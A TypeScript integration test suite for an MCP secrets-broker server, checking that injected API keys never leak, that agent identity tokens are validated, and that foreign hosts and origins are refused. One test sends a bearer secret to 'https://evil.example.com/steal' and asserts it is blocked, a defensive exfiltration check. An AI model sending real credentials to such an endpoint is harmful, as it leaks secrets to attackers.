import { type ChildProcess } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { Transport } from '@modelcontextprotocol/sdk/shared/transport.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newestEntries } from '../../src/audit/reader.js';
import { encodings, findLeaks, scanTree } from '../helpers/canary.js';
import { tempDir } from '../helpers/tmp.js';
import type { Upstream } from '../helpers/upstream.js';
import {
  type Fixture,
  latest,
  revokeToken,
  SECRET,
  setup,
  startHttp,
  stdioClient,
  stopHttp,
} from './fixture.js';

const TOOLS = ['api_call', 'call', 'diff', 'list', 'list_secrets', 'logs', 'pull', 'status'];

/** Calls every tool once; returns the results' text and structured content as one string. */
async function exerciseAllTools(client: Client, upstream: Upstream): Promise<string> {
  const results: unknown[] = [];
  const call = async (name: string, args: Record<string, unknown>) => {
    const result = await client.callTool({ name, arguments: args });
    results.push(result);
    return result as {
      isError?: boolean;
      structuredContent?: Record<string, unknown>;
      content: { text: string }[];
    };
  };
  const status = await call('status', {});
  expect(status.isError).toBeFalsy();
  expect(status.structuredContent).toMatchObject({
    project: 'default',
    secrets: 1,
    remote_configured: false,
  });
  const list = await call('list', {});
  expect(
    (list.structuredContent as { secrets: { key: string }[] }).secrets.map((s) => s.key),
  ).toEqual(['API_KEY']);
  const diff = await call('diff', {});
  expect(diff.structuredContent).toMatchObject({
    remote_configured: false,
    message: 'no remote configured — run `agentsecrets login`',
  });
  const pull = await call('pull', {});
  expect(pull.isError).toBeFalsy();
  expect(pull.structuredContent).toMatchObject({ remote_configured: false, pulled: [] });
  const ok = await call('call', {
    url: `${upstream.url}/tool-call`,
    bearer: 'API_KEY',
    header: { 'X-Api-Key': 'API_KEY' },
  });
  expect(ok.isError).toBeFalsy();
  expect(ok.structuredContent).toMatchObject({ status: 200, redacted: true });
  expect(ok.structuredContent!.request_id).toMatch(/^evt_/);
  const blocked = await call('call', { url: 'https://evil.example.com/steal', bearer: 'API_KEY' });
  expect(blocked.isError).toBe(true);
  expect(blocked.content[0]!.text).toContain('domain_not_in_allowlist');
  expect(blocked.content[0]!.text).toContain(
    'agentsecrets workspace allowlist add evil.example.com',
  );
  const compat = await call('api_call', {
    url: `${upstream.url}/compat`,
    method: 'POST',
    body: '{"a":1}',
    injections: { bearer: 'API_KEY', 'body:auth.token': 'API_KEY' },
  });
  expect(compat.isError).toBeFalsy();
  expect(compat.content[0]!.text).toMatch(/^HTTP 200/);
  const names = await call('list_secrets', {});
  expect(names.content[0]!.text).toContain('• API_KEY');
  const logs = await call('logs', { count: 5 });
  expect((logs.structuredContent as { entries: unknown[] }).entries.length).toBeGreaterThan(0);
  return JSON.stringify(results);
}

describe('MCP over stdio (the built binary, spawned)', () => {
  let fixture: Fixture;
  beforeAll(async () => {
    fixture = await setup();
  });
  afterAll(() => fixture.upstream.close());

  it('lists the tools and prompts and calls every tool; the value appears nowhere', async () => {
    const { transport, stderr } = stdioClient(fixture);
    const client = new Client({ name: 'claude-ai', version: '1.0.0' });
    await client.connect(transport);
    expect((await client.listTools()).tools.map((t) => t.name).sort()).toEqual(TOOLS);
    expect((await client.listPrompts()).prompts.map((p) => p.name).sort()).toEqual([
      'audit-review',
      'authenticated-call',
      'sync-check',
    ]);
    expect(client.getInstructions()).toContain('never returned');
    const seen = await exerciseAllTools(client, fixture.upstream);
    await client.close();
    expect(findLeaks(seen, SECRET)).toEqual([]);
    expect(findLeaks(stderr(), SECRET)).toEqual([]);
    expect(await scanTree(fixture.home, SECRET)).toEqual([]);
    // With no token, the client's own name is recorded as a claim.
    expect(await latest(fixture, (e) => e.source === 'mcp' && e.status === 'OK')).toMatchObject({
      agent_id: 'claude-ai',
      identity_level: 'declared',
    });
  });

  it('a response header named after the value is dropped, in any case and encoding', async () => {
    const { transport } = stdioClient(fixture);
    const client = new Client({ name: 'claude-ai', version: '1.0.0' });
    await client.connect(transport);
    const result = await client.callTool({
      name: 'call',
      arguments: { url: `${fixture.upstream.url}/header-name`, bearer: 'API_KEY' },
    });
    await client.close();
    expect(result.isError).toBeFalsy();
    const structured = result.structuredContent as {
      headers: Record<string, string[]>;
      redacted: boolean;
    };
    expect(structured.redacted).toBe(true);
    expect(Object.keys(structured.headers).filter((n) => n.startsWith('x-'))).toEqual(['x-kept']);
    // Header names come back lower-cased: look for every form of the value, in any case.
    const seen = JSON.stringify(result).toLowerCase();
    for (const form of encodings(SECRET)) expect(seen).not.toContain(form.toLowerCase());
    expect(
      await latest(fixture, (e) => e.target_url?.endsWith('/header-name') === true),
    ).toMatchObject({ status: 'OK', redacted: true });
  });

  it('--agent-id overrides the client name (still declared)', async () => {
    const { transport } = stdioClient(fixture, {}, ['--agent-id', 'desktop-agent']);
    const client = new Client({ name: 'claude-ai', version: '1.0.0' });
    await client.connect(transport);
    await client.callTool({
      name: 'call',
      arguments: { url: `${fixture.upstream.url}/named`, bearer: 'API_KEY' },
    });
    const status = await client.callTool({ name: 'status', arguments: {} });
    expect(status.structuredContent).toMatchObject({
      identity: { name: 'desktop-agent', level: 'declared' },
      // No key holder runs here: no intercepting proxy for `run`, no active runs.
      intercepting_proxy: { up: false, active_runs: null },
    });
    await client.close();
    expect(
      await latest(fixture, (e) => e.source === 'mcp' && e.target_url?.endsWith('/named') === true),
    ).toMatchObject({ agent_id: 'desktop-agent', identity_level: 'declared' });
  });

  it('a valid token in AGENTSECRETS_AGENT_TOKEN gives an issued session', async () => {
    const { transport } = stdioClient(fixture, {
      AGENTSECRETS_AGENT_TOKEN: fixture.tokens['alpha-bot']!,
    });
    const client = new Client({ name: 'claude-ai', version: '1.0.0' });
    await client.connect(transport);
    await client.callTool({
      name: 'call',
      arguments: { url: `${fixture.upstream.url}/issued`, bearer: 'API_KEY' },
    });
    await client.close();
    expect(await latest(fixture, (e) => e.target_url?.endsWith('/issued') === true)).toMatchObject({
      agent_id: 'alpha-bot',
      identity_level: 'issued',
    });
  });

  it('AGENTSECRETS_AGENT_TOKEN_FILE (as mcp install writes for Claude Code) gives an issued session', async () => {
    const file = join(await tempDir(), 'tok.token');
    await writeFile(file, `${fixture.tokens['beta-bot']!}\n`, { mode: 0o600 });
    const { transport } = stdioClient(fixture, { AGENTSECRETS_AGENT_TOKEN_FILE: file });
    const client = new Client({ name: 'claude-code', version: '1.0.0' });
    await client.connect(transport);
    await client.callTool({
      name: 'call',
      arguments: { url: `${fixture.upstream.url}/token-file`, bearer: 'API_KEY' },
    });
    await client.close();
    expect(
      await latest(fixture, (e) => e.target_url?.endsWith('/token-file') === true),
    ).toMatchObject({ agent_id: 'beta-bot', identity_level: 'issued' });

    // A missing file refuses the session, saying what to do; it never falls back to anonymous.
    const missing = stdioClient(fixture, { AGENTSECRETS_AGENT_TOKEN_FILE: `${file}.gone` });
    await expect(
      new Client({ name: 'claude-code', version: '1.0.0' }).connect(missing.transport),
    ).rejects.toThrow();
    expect(missing.stderr()).toMatch(/AGENTSECRETS_AGENT_TOKEN_FILE .* \(no such file\)/);
  });

  it.each(['forged', 'revoked'])('a %s token refuses the session', async (kind) => {
    let token = fixture.tokens['gamma-bot']!;
    if (kind === 'forged') token = `${token.slice(0, -4)}AAAA`;
    else await revokeToken(fixture, 'gamma-bot');
    const { transport, stderr } = stdioClient(fixture, { AGENTSECRETS_AGENT_TOKEN: token });
    const client = new Client({ name: 'claude-ai', version: '1.0.0' });
    await expect(client.connect(transport)).rejects.toThrow();
    expect(stderr()).toMatch(kind === 'forged' ? /invalid_agent_token/ : /token_revoked/);
    expect(stderr()).not.toContain(token.slice(4));
  });
});

describe('MCP over HTTP: Streamable HTTP and legacy SSE', () => {
  let fixture: Fixture;
  let server: ChildProcess;
  let base: string;
  let anonymousServer: ChildProcess;
  let anonymousBase: string;

  beforeAll(async () => {
    fixture = await setup();
    ({ child: server, base } = await startHttp(fixture, []));
    ({ child: anonymousServer, base: anonymousBase } = await startHttp(fixture, [
      '--allow-anonymous',
    ]));
  });
  afterAll(async () => {
    for (const child of [server, anonymousServer]) await stopHttp(child);
    await fixture.upstream.close();
  });

  const withToken = (token: string) => ({ headers: { Authorization: `Bearer ${token}` } });

  it('Streamable HTTP: a client with a token lists and calls every tool', async () => {
    const client = new Client({ name: 'cursor', version: '1.0.0' });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`${base}/mcp`), {
        requestInit: withToken(fixture.tokens['alpha-bot']!),
      }),
    );
    expect((await client.listTools()).tools.map((t) => t.name).sort()).toEqual(TOOLS);
    const seen = await exerciseAllTools(client, fixture.upstream);
    await client.close();
    expect(findLeaks(seen, SECRET)).toEqual([]);
  });

  it('legacy SSE: the same, on /sse and /messages', async () => {
    const token = fixture.tokens['beta-bot']!;
    const transport = new SSEClientTransport(new URL(`${base}/sse`), {
      requestInit: withToken(token),
      eventSourceInit: {
        fetch: (url, init) =>
          fetch(url, {
            ...init,
            headers: {
              ...(init?.headers as Record<string, string>),
              Authorization: `Bearer ${token}`,
            },
          }),
      },
    });
    const client = new Client({ name: 'old-client', version: '1.0.0' });
    await client.connect(transport as Transport);
    const seen = await exerciseAllTools(client, fixture.upstream);
    await client.close();
    expect(findLeaks(seen, SECRET)).toEqual([]);
    expect(
      await latest(
        fixture,
        (e) =>
          e.source === 'mcp' &&
          e.target_url?.endsWith('/tool-call') === true &&
          e.agent_id === 'beta-bot',
      ),
    ).toMatchObject({ identity_level: 'issued' });
  });

  it('two concurrent sessions with different tokens are attributed call by call', async () => {
    const clients = await Promise.all(
      (['alpha-bot', 'beta-bot'] as const).map(async (name) => {
        const client = new Client({ name: 'same-client-name', version: '1.0.0' });
        await client.connect(
          new StreamableHTTPClientTransport(new URL(`${base}/mcp`), {
            requestInit: withToken(fixture.tokens[name]!),
          }),
        );
        return { name, client };
      }),
    );
    await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        Promise.all(
          clients.map(({ name, client }) =>
            client.callTool({
              name: 'call',
              arguments: { url: `${fixture.upstream.url}/who/${name}/${i}`, bearer: 'API_KEY' },
            }),
          ),
        ),
      ),
    );
    for (const { client } of clients) await client.close();
    await new Promise((r) => setTimeout(r, 50));
    const entries = (await newestEntries(join(fixture.home, 'audit'), 10_000)).filter((e) =>
      e.target_url?.includes('/who/'),
    );
    expect(entries).toHaveLength(20);
    for (const entry of entries) {
      const expected = /\/who\/([a-z-]+)\//.exec(entry.target_url!)![1];
      expect(entry).toMatchObject({ agent_id: expected, identity_level: 'issued', source: 'mcp' });
    }
  });

  it('without a token the session is refused (401) unless --allow-anonymous', async () => {
    const client = new Client({ name: 'nobody', version: '1.0.0' });
    await expect(
      client.connect(new StreamableHTTPClientTransport(new URL(`${base}/mcp`))),
    ).rejects.toThrow();
    const forged = new Client({ name: 'nobody', version: '1.0.0' });
    await expect(
      forged.connect(
        new StreamableHTTPClientTransport(new URL(`${base}/mcp`), {
          requestInit: withToken(`${fixture.tokens['alpha-bot']!.slice(0, -4)}AAAA`),
        }),
      ),
    ).rejects.toThrow();
    const anonymous = new Client({ name: 'local-trial', version: '1.0.0' });
    await anonymous.connect(new StreamableHTTPClientTransport(new URL(`${anonymousBase}/mcp`)));
    const status = await anonymous.callTool({ name: 'status', arguments: {} });
    expect(status.structuredContent).toMatchObject({
      identity: { name: 'local-trial', level: 'declared' },
    });
    await anonymous.close();
  });

  it.each([
    ['a foreign Host', { Host: 'evil.example:80' }],
    ['a foreign Origin', { Origin: 'https://evil.example' }],
    ['a null Origin', { Origin: 'null' }],
  ])('refuses %s, and grants no CORS', async (_name, headers) => {
    // node:http, not fetch: fetch will not send a Host header of our choosing.
    const url = new URL(`${anonymousBase}/mcp`);
    const body = JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: {
        protocolVersion: '2025-06-18',
        capabilities: {},
        clientInfo: { name: 'x', version: '1' },
      },
    });
    const response = await new Promise<{ status: number; headers: Record<string, unknown> }>(
      (resolve, reject) => {
        const req = request(
          {
            host: url.hostname,
            port: url.port,
            path: url.pathname,
            method: 'POST',
            headers: {
              'content-type': 'application/json',
              accept: 'application/json, text/event-stream',
              ...headers,
            },
          },
          (res) => {
            res.resume();
            res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers }));
          },
        );
        req.on('error', reject);
        req.end(body);
      },
    );
    expect(response.status).toBe(403);
    expect(Object.keys(response.headers).filter((h) => h.startsWith('access-control-'))).toEqual(
      [],
    );
  });
});
